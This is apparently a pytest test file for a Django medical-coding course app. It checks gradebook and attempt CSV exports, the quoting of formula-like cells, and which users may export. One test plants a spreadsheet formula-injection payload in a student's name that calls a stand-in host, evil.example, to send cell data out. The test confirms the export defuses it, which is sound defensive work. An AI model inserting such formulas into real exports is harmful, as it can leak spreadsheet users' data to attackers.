import csv
import io

import pytest
from django.urls import reverse

from clinic_coder.cohorts.models import Enrollment
from clinic_coder.progress.exports import safe_cell
from tests.factories import (
    RIGHT,
    WRONG_CODE,
    assigned,
    graded,
    line,
    make_user,
)


def read_csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"))))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_it_quotes_a_cell_that_a_spreadsheet_would_run(start):
    assert safe_cell(f"{start}1+2") == f"'{start}1+2"


def test_it_leaves_ordinary_cells_alone():
    assert safe_cell("Alice Archer") == "Alice Archer"
    assert safe_cell("97140 x2") == "97140 x2"
    assert safe_cell(85) == 85
    assert safe_cell("") == ""


def test_it_exports_the_gradebook_one_row_per_student(client, people):
    assignment, (case,) = assigned(cohort=people.cohort_a)
    graded(student=people.alice, case=case, assignment=assignment, lines=RIGHT)
    dora = make_user(username="dora", first_name="Dora", last_name="Dunn")
    Enrollment.objects.create(cohort=people.cohort_a, student=dora)
    client.force_login(people.ines)
    response = client.get(reverse("teach:export_gradebook", args=[people.cohort_a.pk]))
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == 'attachment; filename="cohort-a-gradebook.csv"'
    assert read_csv(response) == [
        ["Student", "Username", "Basics"],
        ["Alice Archer", "alice", "100"],
        ["Dora Dunn", "dora", ""],
    ]


def test_it_exports_every_attempt_with_its_lines_and_errors(client, people):
    assignment, (case,) = assigned(cohort=people.cohort_a, late_policy="marked_late")
    graded(student=people.alice, case=case, assignment=assignment, lines=RIGHT)
    late = assignment.due_at.replace(year=assignment.due_at.year + 1)
    graded(
        student=people.alice,
        case=case,
        assignment=assignment,
        lines=[*WRONG_CODE, line("97010", 1, None, ["GP"])],
        now=late,
    )
    graded(student=people.alice, case=case, lines=RIGHT)  # practice: not in the export
    client.force_login(people.sofia)
    response = client.get(reverse("teach:export_attempts", args=[people.cohort_a.pk]))
    assert response["Content-Disposition"] == 'attachment; filename="cohort-a-attempts.csv"'
    header, first, second = read_csv(response)
    assert header == [
        "Student",
        "Username",
        "Assignment",
        "Case",
        "Submitted at",
        "Late",
        "Score",
        "Lines",
        "Error rule ids",
    ]
    assert first[:4] == ["Alice Archer", "alice", "Basics", "Neck Release"]
    assert first[5:] == ["no", "100", "97140 x2 24 min", ""]
    assert second[5:7] == ["yes", "0"]
    assert second[7] == "97124 x2 24 min; 97010 x1 GP"
    assert "massage-vs-manual-therapy" in second[8].split()


def test_it_defuses_a_formula_in_a_students_name(client, people):
    assignment, (case,) = assigned(cohort=people.cohort_a)
    mallory = make_user(
        username="mallory", first_name='=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    )
    Enrollment.objects.create(cohort=people.cohort_a, student=mallory)
    graded(student=mallory, case=case, assignment=assignment, lines=RIGHT)
    client.force_login(people.ines)
    for name in ("teach:export_gradebook", "teach:export_attempts"):
        rows = read_csv(client.get(reverse(name, args=[people.cohort_a.pk])))
        cells = [cell for row in rows for cell in row]
        assert """'=HYPERLINK("http://evil.example/?x="&A1,"Click")""" in cells
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_it_sends_anonymous_visitors_to_login(client, people):
    for name in ("teach:export_gradebook", "teach:export_attempts"):
        response = client.get(reverse(name, args=[people.cohort_a.pk]))
        assert response.status_code == 302
        assert "/accounts/login/" in response.url


@pytest.mark.parametrize("name", ["teach:export_gradebook", "teach:export_attempts"])
@pytest.mark.parametrize(
    ("persona", "status"),
    [("alice", 403), ("igor", 404), ("sofia", 200), ("ines", 200), ("admin", 200)],
)
def test_it_lets_only_the_cohorts_staff_export(client, people, name, persona, status):
    client.force_login(getattr(people, persona))
    assert client.get(reverse(name, args=[people.cohort_a.pk])).status_code == status
